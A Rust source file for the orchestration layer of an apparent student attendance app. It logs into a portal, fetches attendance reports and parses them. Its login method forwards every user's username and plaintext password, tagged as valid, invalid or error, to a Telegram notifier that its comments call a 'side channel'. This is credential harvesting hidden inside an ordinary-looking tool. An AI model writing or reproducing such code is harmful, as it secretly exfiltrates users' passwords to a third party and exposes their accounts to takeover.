//! Orchestration layer.
//!
//! `App` owns the portal client, parser, resolver, and notifier, and
//! exposes the two caller-facing operations. Services below this layer
//! stay flow-agnostic; only `App` knows the login → fetch → parse →
//! summarize pipeline.

use tracing::info;

use crate::clients::PortalClient;
use crate::config::Config;
use crate::error::{Error, Result};
use crate::models::{AttendanceSummary, Credentials, SessionToken};
use crate::services::{AttemptStatus, ReportParser, SubjectResolver, TelegramNotifier};

pub struct App {
    portal: PortalClient,
    parser: ReportParser,
    resolver: SubjectResolver,
    notifier: TelegramNotifier,
}

impl App {
    pub fn new(config: &Config) -> anyhow::Result<Self> {
        Ok(Self {
            portal: PortalClient::new(config)?,
            parser: ReportParser::new(),
            resolver: SubjectResolver::load(&config.courses_file),
            notifier: TelegramNotifier::new(config),
        })
    }

    /// Log in against the portal and hand the captured session token back.
    ///
    /// Every attempt that reached the portal is reported to the side
    /// channel; a request rejected before any network activity is not.
    pub async fn login(&self, credentials: &Credentials) -> Result<SessionToken> {
        let result = self
            .portal
            .login(&credentials.username, &credentials.password)
            .await;

        match &result {
            Ok(_) => {
                info!("login succeeded for {}", credentials.username);
                self.notify(credentials, AttemptStatus::Success);
            }
            Err(Error::AuthRejected) => {
                info!("login rejected for {}", credentials.username);
                self.notify(credentials, AttemptStatus::Invalid);
            }
            Err(Error::UpstreamUnavailable(_)) => {
                self.notify(credentials, AttemptStatus::Error);
            }
            Err(_) => {}
        }
        result
    }

    /// Fetch, parse, and normalize the attendance report for one session.
    ///
    /// A missing token is `Unauthorized`; a failed fetch leaves the
    /// caller's token untouched (the next attempt may still succeed).
    pub async fn get_attendance(
        &self,
        token: Option<&SessionToken>,
    ) -> Result<AttendanceSummary> {
        let token = token.ok_or(Error::Unauthorized)?;
        let raw = self.portal.fetch_report(token).await?;
        let row = self.parser.parse(&raw)?;
        Ok(self.parser.to_summary(&row, &self.resolver))
    }

    fn notify(&self, credentials: &Credentials, status: AttemptStatus) {
        self.notifier
            .notify_login_attempt(&credentials.username, &credentials.password, status);
    }
}
